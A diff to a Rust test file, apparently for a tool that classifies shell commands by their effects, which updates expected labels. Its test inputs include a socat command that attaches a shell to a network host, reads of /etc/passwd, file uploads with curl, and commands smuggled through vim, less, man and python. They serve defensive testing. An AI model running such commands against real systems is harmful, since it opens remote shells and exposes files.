@@ -192,7 +192,7 @@ fn shells_and_code() {
         (
             "bash $x",
             &["unknown Script $x", "exec ?($x)", "unknown Script $x"],
-            "writes workspace",
+            "writes workspace runs",
         ),
         (
             "python3 -c 'import os; os.system(\"rm x\")'",
@@ -348,7 +348,7 @@ fn hosts() {
         ("curl -X POST a.example", &["host a.example"], "sends"),
         ("curl -T f ftp://h/", &["read f", "host h:21"], "sends"),
         ("curl file:///etc/passwd", &["read /etc/passwd"], ""),
-        ("wget -qO- https://a.example", &["host a.example:443"], ""),
+        ("wget -qO- https://a.example", &["host a.example:443"], "writes"),
         (
             "wget https://a.example/f",
             &["host a.example:443"],
@@ -375,7 +375,7 @@ fn hosts() {
         (
             "socat TCP:h:1 EXEC:sh",
             &["host h:1", "shell sh"],
-            "network sends",
+            "writes network sends",
         ),
         ("ping -c 1 h", &["host h"], ""),
         (
@@ -596,7 +596,7 @@ fn archives_and_machine() {
         (
             "vim -c ':!rm x' f",
             &["code Other", "shell rm x", "write f"],
-            "interactive",
+            "writes interactive",
         ),
         ("less +'!rm x' f", &["shell rm x", "read f"], ""),
         ("man -P 'rm x' ls", &["shell rm x"], ""),
